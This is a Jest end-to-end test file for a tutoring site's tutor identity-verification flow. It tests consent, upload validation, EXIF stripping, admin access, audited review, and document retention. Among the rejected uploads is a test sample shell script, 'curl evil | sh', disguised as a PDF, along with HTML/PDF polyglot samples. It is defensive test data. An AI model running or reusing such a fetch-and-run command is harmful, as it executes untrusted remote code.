import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { randomUUID } from 'node:crypto';
import sharp from 'sharp';
import { DataSource } from 'typeorm';
import { SiteClockService } from '../backend/src/common/site-time';
import { VerificationRetention } from '../backend/src/verification/verification-retention';
import { assertAccess, type ExpectedAccess } from './support/access-matrix';
import { createTarget, http, type Target } from './support/app';
import {
  authHeader,
  closeTarget,
  createAccount,
  createIdentities,
  type Identities,
  type TestIdentity,
} from './support/identities';
import {
  filesIn,
  fileIn,
  jpegWithGps,
  plainPdf,
  png,
  tutorWithDocuments,
  uploadDocument,
} from './support/verification';

const DAY = 24 * 60 * 60 * 1000;

// In-process: the disk store is read straight from its folder, and the site clock is moved.
describe('verified tutors (disk store)', () => {
  const root = fs.mkdtempSync(path.join(os.tmpdir(), 'tutorhub-verify-'));
  const documentsDir = path.join(root, 'documents');
  const mediaDir = path.join(root, 'media');
  let target: Target;
  let ids: Identities;
  let other: TestIdentity;

  const db = () => target.app!.get(DataSource);
  const keysOf = async (tutor: TestIdentity): Promise<string[]> =>
    (
      (await db().query(
        `SELECT d."storageKey" AS key FROM verification_documents d
         JOIN verification_requests r ON r.id = d."requestId" WHERE r."tutorId" = $1`,
        [tutor.user!.id],
      )) as Array<{ key: string }>
    ).map((r) => r.key);
  const requestIdOf = async (tutor: TestIdentity): Promise<string> =>
    (
      (await db().query(`SELECT id FROM verification_requests WHERE "tutorId" = $1`, [
        tutor.user!.id,
      ])) as Array<{ id: string }>
    )[0].id;
  const stateOf = async (tutor: TestIdentity) =>
    (await http(target).get('/api/verification').set(authHeader(tutor)).expect(200)).body;

  beforeAll(async () => {
    target = await createTarget({
      DOCUMENTS_DIR: documentsDir,
      MEDIA_DIR: mediaDir,
      SMTP_URL: process.env.E2E_SMTP_URL as string,
      MAIL_FROM: 'Tutor Hub <no-reply@tutorhub.example>',
      MAIL_WORKER: 'false',
    });
    ids = await createIdentities(target);
    other = await createAccount(target, 'tutor', { kind: 'tutor' });
  });
  afterAll(async () => {
    jest.restoreAllMocks();
    await closeTarget(target);
    fs.rmSync(root, { recursive: true, force: true });
  });

  it('answers a tutor with no request an empty draft', async () => {
    expect(await stateOf(other)).toEqual({
      status: 'draft',
      reason: null,
      note: null,
      consentedAt: null,
      submittedAt: null,
      decidedAt: null,
      retentionDays: 30,
      documents: [],
    });
  });

  it('refuses an upload before consent, then records the consent and its time', async () => {
    const res = await uploadDocument(target, ids.tutor, await png(), 'a.png', 'nid', 'front');
    expect(res.status).toBe(409);
    expect(res.body.code).toBe('verification.consentFirst');
    const consent = await http(target)
      .post('/api/verification/consent')
      .set(authHeader(ids.tutor))
      .expect(200);
    expect(Date.parse(consent.body.consentedAt)).toBeGreaterThan(Date.now() - 60_000);
  });

  describe('what the store takes, by the file’s own bytes', () => {
    it('takes a PNG named .jpg as a PNG', async () => {
      const res = await uploadDocument(target, ids.tutor, await png(), 'nid.jpg', 'nid', 'front');
      expect(res.status).toBe(201);
      expect(res.body).toMatchObject({ kind: 'nid', side: 'front', contentType: 'image/png' });
      expect(Object.keys(res.body).sort()).toEqual(
        ['_id', 'contentType', 'kind', 'side', 'size', 'uploadedAt'].sort(),
      );
    });

    it('stores a JPEG without its GPS and camera EXIF', async () => {
      const sent = await jpegWithGps();
      expect((await sharp(sent).metadata()).exif).toBeDefined();
      const res = await uploadDocument(target, ids.tutor, sent, 'back.jpg', 'nid', 'back');
      expect(res.status).toBe(201);
      expect(res.body.contentType).toBe('image/jpeg');
      const stored = (await db().query(
        `SELECT "storageKey" AS key FROM verification_documents WHERE id = $1`,
        [res.body._id],
      )) as Array<{ key: string }>;
      const bytes = fileIn(documentsDir, stored[0].key);
      const meta = await sharp(bytes).metadata();
      expect(meta.format).toBe('jpeg');
      expect(meta.exif).toBeUndefined();
      expect(bytes.includes(Buffer.from('PhoneMaker'))).toBe(false);
    });

    it.each([
      [
        'a script renamed .pdf',
        Buffer.from('#!/bin/sh\ncurl evil | sh\n'),
        'run.pdf',
        'verification.fileType',
      ],
      [
        'an HTML page renamed .png',
        Buffer.from('<html><script>1</script></html>'),
        'page.png',
        'verification.fileType',
      ],
      [
        'a PDF that is also an HTML page',
        plainPdf('<html><script>alert(1)</script></html>'),
        'both.pdf',
        'verification.polyglot',
      ],
      [
        'a PDF with JavaScript',
        plainPdf('3 0 obj << /S /JavaScript /JS (x) >> endobj'),
        'js.pdf',
        'verification.polyglot',
      ],
    ])('refuses %s with a 400 naming the file', async (_, bytes, name, code) => {
      const res = await uploadDocument(target, ids.tutor, bytes, name, 'certificate');
      expect(res.status).toBe(400);
      expect(res.body).toMatchObject({ code, params: { file: name } });
      expect(res.body.message).toContain(name);
    });

    it('refuses a file over 5 MB with 413', async () => {
      const big = Buffer.concat([plainPdf(), Buffer.alloc(5 * 1024 * 1024 + 1, 32)]);
      const res = await uploadDocument(target, ids.tutor, big, 'big.pdf', 'certificate');
      expect(res.status).toBe(413);
      expect(res.body.code).toBe('verification.tooLarge');
    });

    it('refuses a side on a certificate and none on an NID', async () => {
      const pdf = plainPdf();
      expect(
        (await uploadDocument(target, ids.tutor, pdf, 'c.pdf', 'certificate', 'front')).body.code,
      ).toBe('verification.sideNotAllowed');
      expect((await uploadDocument(target, ids.tutor, pdf, 'n.pdf', 'nid')).body.code).toBe(
        'verification.sideRequired',
      );
    });

    it('refuses a 9th document', async () => {
      const tutor = await createAccount(target, 'tutor', { kind: 'tutor' });
      await http(target).post('/api/verification/consent').set(authHeader(tutor)).expect(200);
      for (let i = 0; i < 8; i++) {
        await uploadDocument(target, tutor, plainPdf(`% ${i}`), `c${i}.pdf`, 'certificate').expect(
          201,
        );
      }
      const res = await uploadDocument(target, tutor, plainPdf(), 'c9.pdf', 'certificate');
      expect(res.status).toBe(409);
      expect(res.body).toMatchObject({ code: 'verification.tooManyFiles', params: { max: 8 } });
      expect(filesIn(documentsDir)).toEqual(expect.arrayContaining(await keysOf(tutor)));
    });
  });

  it('keeps no document under /media, nor at a guessed key', async () => {
    const [key] = await keysOf(ids.tutor);
    expect(key).toMatch(/^[0-9a-f]{32}\.bin$/);
    expect(fs.existsSync(path.join(mediaDir, key))).toBe(false);
    for (const url of [`/media/${key}`, `/documents/${key}`, `/.data/documents/${key}`]) {
      expect((await http(target).get(url)).status).toBe(404);
    }
    expect([403, 404]).toContain((await http(target).get(`/media/../documents/${key}`)).status);
    const request = await requestIdOf(ids.tutor);
    const guessed = await http(target)
      .get(`/api/admin/verifications/${request}/documents/${randomUUID()}`)
      .set(authHeader(ids.admin));
    expect(guessed.status).toBe(404);
  });

  describe('who may call what', () => {
    const notTutor: ExpectedAccess = { anonymous: 401, noProfile: 403, student: 403, admin: 403 };
    it.each([
      ['get', '/api/verification'],
      ['post', '/api/verification/consent'],
      ['post', '/api/verification/submit'],
      ['delete', '/api/verification'],
    ] as const)('%s %s: tutors only', async (method, p) => {
      await assertAccess(target, ids, { method, path: p }, notTutor);
    });

    it('answers another tutor 404 for a tutor’s document, and admins only see the queue', async () => {
      const docs = (await stateOf(ids.tutor)).documents as Array<{ _id: string }>;
      const doc = docs[0]._id;
      const res = await http(target)
        .delete(`/api/verification/documents/${doc}`)
        .set(authHeader(other));
      expect(res.status).toBe(404);
      const request = await requestIdOf(ids.tutor);
      const adminOnly: ExpectedAccess = {
        anonymous: 401,
        noProfile: 403,
        student: 403,
        tutor: 403,
        admin: 200,
      };
      for (const p of [
        '/api/admin/verifications',
        `/api/admin/verifications/${request}`,
        `/api/admin/verifications/${request}/documents/${doc}`,
      ]) {
        await assertAccess(target, ids, { method: 'get', path: p }, adminOnly);
      }
      await assertAccess(
        target,
        ids,
        {
          method: 'patch',
          path: `/api/admin/verifications/${request}`,
          body: { status: 'approved' },
        },
        { anonymous: 401, noProfile: 403, student: 403, tutor: 403 },
      );
    });
  });

  it('submits once an identity document is complete, then holds the documents', async () => {
    const tutor = await createAccount(target, 'tutor', { kind: 'tutor' });
    await http(target).post('/api/verification/consent').set(authHeader(tutor)).expect(200);
    await uploadDocument(target, tutor, await png(), 'f.png', 'nid', 'front').expect(201);
    const early = await http(target).post('/api/verification/submit').set(authHeader(tutor));
    expect(early.status).toBe(400);
    expect(early.body.code).toBe('verification.identityRequired');
    await uploadDocument(target, tutor, await png(), 'b.png', 'nid', 'back').expect(201);
    const sent = await http(target)
      .post('/api/verification/submit')
      .set(authHeader(tutor))
      .expect(200);
    expect(sent.body.status).toBe('submitted');
    const late = await uploadDocument(target, tutor, plainPdf(), 'c.pdf', 'certificate');
    expect(late.status).toBe(409);
    expect(late.body.code).toBe('verification.notEditable');
  });

  it('lets an admin open a document (audited, never cached) and approve: the badge goes on', async () => {
    const submit = await http(target).post('/api/verification/submit').set(authHeader(ids.tutor));
    expect(submit.body).toMatchObject({ status: 'submitted' });
    const list = await http(target)
      .get('/api/admin/verifications?status=submitted&limit=100')
      .set(authHeader(ids.admin))
      .expect(200);
    expect(Number(list.headers['x-total-count'])).toBe(list.body.length);
    const submitted = list.body.map((r: { submittedAt: string }) => Date.parse(r.submittedAt));
    expect([...submitted].sort((a, b) => a - b)).toEqual(submitted);
    const request = await requestIdOf(ids.tutor);
    const detail = await http(target)
      .get(`/api/admin/verifications/${request}`)
      .set(authHeader(ids.admin))
      .expect(200);
    expect(detail.body.tutor).toMatchObject({ _id: ids.tutor.user!.id, verified: false });
    expect(detail.body.tutor).toHaveProperty('study');
    const doc = detail.body.documents[0];
    const viewsOfDoc = async () =>
      (await db().query(
        `SELECT "actorId", "targetId", note FROM audit_log WHERE action = 'verify-view' AND note = $1`,
        [doc._id],
      )) as unknown[];
    const viewsBefore = (await viewsOfDoc()).length;
    const file = await http(target)
      .get(`/api/admin/verifications/${request}/documents/${doc._id}`)
      .set(authHeader(ids.admin))
      .buffer(true)
      .parse((res, done) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => done(null, Buffer.concat(chunks)));
      })
      .expect(200);
    expect(file.headers['cache-control']).toBe('no-store');
    expect(file.headers['x-content-type-options']).toBe('nosniff');
    expect(file.headers['content-security-policy']).toContain("default-src 'none'");
    expect(file.headers['content-disposition']).toMatch(/^attachment; filename="nid-front\.png"$/);
    expect(file.headers['content-type']).toContain('image/png');
    expect((await sharp(file.body as Buffer).metadata()).format).toBe('png');
    const views = await viewsOfDoc();
    expect(views).toHaveLength(viewsBefore + 1);
    expect(views.at(-1)).toEqual({
      actorId: ids.admin.user!.id,
      targetId: ids.tutor.user!.id,
      note: doc._id,
    });

    const approved = await http(target)
      .patch(`/api/admin/verifications/${request}`)
      .set(authHeader(ids.admin))
      .send({ status: 'approved' })
      .expect(200);
    expect(approved.body).toMatchObject({ status: 'approved', decidedBy: ids.admin.user!.id });
    expect(approved.body.tutor.verified).toBe(true);
    const tutors = await http(target)
      .get('/api/getTutor?verified=true&limit=100')
      .set(authHeader(ids.student))
      .expect(200);
    expect(tutors.body.find((t: { _id: string }) => t._id === ids.tutor.user!.id)).toMatchObject({
      verified: true,
    });
    const again = await http(target)
      .patch(`/api/admin/verifications/${request}`)
      .set(authHeader(ids.admin))
      .send({ status: 'rejected', reason: 'unreadable' });
    expect(again.status).toBe(409);
    expect(again.body.code).toBe('verification.onlySubmittedDecided');
    expect(
      await db().query(
        `SELECT 1 FROM audit_log WHERE action = 'verify-approve' AND "targetId" = $1`,
        [ids.tutor.user!.id],
      ),
    ).toHaveLength(1);
  });

  it('the badge switch turns the badge off only, with a reason, audited', async () => {
    const call = (body: object) =>
      http(target)
        .patch(`/api/tutors/${ids.tutor.user!.id}/verification`)
        .set(authHeader(ids.admin))
        .send(body);
    const on = await call({ verified: true });
    expect(on.status).toBe(400);
    expect(on.body.code).toBe('verification.byReview');
    const bare = await call({ verified: false });
    expect(bare.status).toBe(400);
    expect(Object.values(bare.body.codes ?? {})).toContain('verification.offReason');
    expect((await call({ verified: false, reason: 'Documents found forged' })).body).toEqual({
      modifiedCount: 1,
    });
    expect(
      await db().query(
        `SELECT "actorId", note FROM audit_log WHERE action = 'unverify' AND "targetId" = $1`,
        [ids.tutor.user!.id],
      ),
    ).toEqual([{ actorId: ids.admin.user!.id, note: 'Documents found forged' }]);
  });

  it('rejection tells the tutor by bell and email what to send again', async () => {
    const tutor = await tutorWithDocuments(target, 'rejected', true);
    const request = await requestIdOf(tutor);
    const decide = (body: object) =>
      http(target)
        .patch(`/api/admin/verifications/${request}`)
        .set(authHeader(ids.admin))
        .send(body);
    const noNote = await decide({ status: 'rejected', reason: 'other' });
    expect(noNote.status).toBe(400);
    const rejected = await decide({
      status: 'rejected',
      reason: 'other',
      note: 'The back of the NID is cut off',
    }).expect(200);
    expect(rejected.body).toMatchObject({ status: 'rejected', reason: 'other' });
    const bell = await http(target).get('/api/notifications').set(authHeader(tutor)).expect(200);
    expect(bell.body[0]).toMatchObject({
      type: 'verification.rejected',
      params: { verificationReason: 'other', note: 'The back of the NID is cut off' },
    });
    expect(bell.body[0].text).toContain('The back of the NID is cut off');
    const emails = (await db().query(`SELECT type, code FROM emails WHERE "userId" = $1`, [
      tutor.user!.id,
    ])) as unknown[];
    expect(emails).toEqual([
      { type: 'verification.rejected', code: 'verificationNotice.rejectedWithNote' },
    ]);
    const state = await stateOf(tutor);
    expect(state).toMatchObject({ status: 'rejected', reason: 'other' });
    // A new upload opens a new draft.
    await uploadDocument(target, tutor, await png(), 'again.png', 'nid', 'back').expect(201);
    expect((await stateOf(tutor)).status).toBe('draft');
  });

  it('retention deletes the files after the retention time and keeps the decision', async () => {
    const tutor = await tutorWithDocuments(target, 'kept', true);
    const request = await requestIdOf(tutor);
    await http(target)
      .patch(`/api/admin/verifications/${request}`)
      .set(authHeader(ids.admin))
      .send({ status: 'approved' })
      .expect(200);
    const keys = await keysOf(tutor);
    expect(keys).toHaveLength(2);
    const clock = jest.spyOn(target.app!.get(SiteClockService), 'now');
    try {
      clock.mockReturnValue(new Date(Date.now() + 29 * DAY));
      await target.app!.get(VerificationRetention).run();
      expect(filesIn(documentsDir)).toEqual(expect.arrayContaining(keys));
      clock.mockReturnValue(new Date(Date.now() + 31 * DAY));
      expect(await target.app!.get(VerificationRetention).run()).toBeGreaterThanOrEqual(2);
    } finally {
      clock.mockRestore();
    }
    for (const key of keys) {
      expect(filesIn(documentsDir)).not.toContain(key);
    }
    const state = await stateOf(tutor);
    expect(state).toMatchObject({ status: 'approved', documents: [] });
    expect(state.decidedAt).not.toBeNull();
    const [row] = (await db().query(
      `SELECT "decidedById" FROM verification_requests WHERE id = $1`,
      [request],
    )) as Array<{ decidedById: string }>;
    expect(row.decidedById).toBe(ids.admin.user!.id);
  });

  it('withdrawal deletes the files from the folder at once, and the request', async () => {
    const tutor = await tutorWithDocuments(target, 'withdrawn');
    const keys = await keysOf(tutor);
    expect(filesIn(documentsDir)).toEqual(expect.arrayContaining(keys));
    await http(target).delete('/api/verification').set(authHeader(tutor)).expect(200);
    for (const key of keys) {
      expect(filesIn(documentsDir)).not.toContain(key);
    }
    expect(await stateOf(tutor)).toMatchObject({
      status: 'draft',
      consentedAt: null,
      documents: [],
    });
  });

  it('deleting the tutor’s account deletes its files at once', async () => {
    const tutor = await tutorWithDocuments(target, 'leaving');
    const keys = await keysOf(tutor);
    await http(target)
      .delete('/api/me')
      .set(authHeader(tutor))
      .set('X-Id-Token', tutor.idToken!)
      .expect(200);
    for (const key of keys) {
      expect(filesIn(documentsDir)).not.toContain(key);
    }
    expect(
      await db().query(`SELECT 1 FROM verification_documents WHERE "storageKey" = ANY($1)`, [keys]),
    ).toEqual([]);
  });
});
